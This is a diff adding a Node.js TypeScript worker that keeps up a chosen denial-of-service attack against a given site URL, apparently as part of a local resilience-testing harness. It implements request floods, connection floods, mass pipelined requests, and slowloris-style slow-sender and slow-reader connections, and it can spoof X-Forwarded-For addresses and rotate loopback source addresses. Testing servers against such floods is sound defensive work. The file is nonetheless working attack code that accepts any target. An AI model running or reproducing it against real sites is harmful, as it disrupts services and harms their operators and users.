@@ -1,0 +1,111 @@
+import { randomBytes, randomInt } from 'node:crypto';
+import { Agent, request } from 'node:http';
+import { connect } from 'node:net';
+import { setPriority } from 'node:os';
+import { type Attack, type AttackRequest, attacks } from './list.ts';
+
+/**
+ * Keeps up one attack until its parent ends it. Arguments: the attack's name, the site's URL, and whether
+ * it comes from `one` address or from `many`.
+ */
+const [name, site = '', sources] = process.argv.slice(2);
+const attack = attacks.find((one) => one.name === name);
+if (!attack) throw new Error(`There is no attack "${name}".`);
+const { hostname, port } = new URL(site);
+const isMany = sources === 'many';
+
+/** What came back: statuses, and connections that were closed. */
+const outcomes: Record<string, number> = {};
+const count = (outcome: string | number) => (outcomes[outcome] = (outcomes[outcome] ?? 0) + 1);
+
+/** On a real network the attacker has a machine of its own; here it yields to the server. */
+setPriority(10);
+
+const inventedAddress = (): string =>
+  randomInt(2) === 0
+    ? `${randomInt(1, 223)}.${randomInt(255)}.${randomInt(255)}.${randomInt(1, 255)}`
+    : `2001:db8:${randomBytes(2).toString('hex')}:${randomBytes(2).toString('hex')}::1`;
+
+/** On Linux the whole of 127.0.0.0/8 is this machine. */
+const localAddress = (): string | undefined =>
+  isMany && process.platform === 'linux'
+    ? `127.${randomInt(255)}.${randomInt(255)}.${randomInt(1, 255)}`
+    : undefined;
+
+const send = (agent: Agent, { method, path, headers, body }: AttackRequest): Promise<void> =>
+  new Promise((resolve) => {
+    const from = isMany ? { 'X-Forwarded-For': inventedAddress() } : {};
+    const length = body === undefined ? {} : { 'Content-Length': Buffer.byteLength(body) };
+    const options = {
+      hostname,
+      port,
+      agent,
+      method,
+      path,
+      headers: { ...from, ...length, ...headers },
+    };
+    const outgoing = request(options, (answer) => {
+      count(answer.statusCode ?? 0);
+      answer.resume();
+      answer.once('close', resolve);
+    });
+    outgoing.once('error', () => {
+      count('closed');
+      resolve();
+    });
+    outgoing.end(body);
+  });
+
+/** Asks again as soon as an answer has come. */
+const keepAsking = async (next: () => AttackRequest, keepAlive: boolean): Promise<never> => {
+  const agent = new Agent({ keepAlive, maxSockets: 1, localAddress: localAddress() });
+  for (;;) await send(agent, next());
+};
+
+/** Holds a connection open in its own way; opens it again when it is closed. */
+const hold = (begin: (socket: ReturnType<typeof connect>) => void): void => {
+  const source = localAddress();
+  const socket = connect({
+    host: hostname,
+    port: Number(port),
+    ...(source && { localAddress: source }),
+  });
+  socket.on('error', () => undefined); // It is closed then, which counts.
+  socket.once('connect', () => begin(socket));
+  socket.once('close', () => {
+    count('closed');
+    setTimeout(() => hold(begin), 100);
+  });
+};
+
+const readNothing = (path: string) => (socket: ReturnType<typeof connect>) => {
+  socket.pause();
+  socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(8));
+};
+
+const sendAtOnce = (socket: ReturnType<typeof connect>) => {
+  socket.resume();
+  const requests = 'GET / HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(2400);
+  const timer = setInterval(() => socket.write(requests), 50);
+  socket.write(requests);
+  socket.once('close', () => clearInterval(timer));
+};
+
+const sendSlowly = (head: string) => (socket: ReturnType<typeof connect>) => {
+  socket.resume();
+  socket.write(head);
+  const timer = setInterval(() => socket.write('a'), 500);
+  socket.once('close', () => clearInterval(timer));
+};
+
+const begin = (one: Attack): void => {
+  if (one.kind === 'requests') void keepAsking(one.next, true);
+  if (one.kind === 'connections') void keepAsking(() => ({ path: '/' }), false);
+  if (one.kind === 'pipelined') hold(sendAtOnce);
+  if (one.kind === 'slow readers') hold(readNothing(one.path));
+  if (one.kind === 'slow senders') hold(sendSlowly(one.head));
+};
+
+for (let number = 0; number < attack.connections; number += 1) begin(attack);
+process.on('message', () => process.send?.(outcomes));
+process.once('disconnect', () => process.exit());
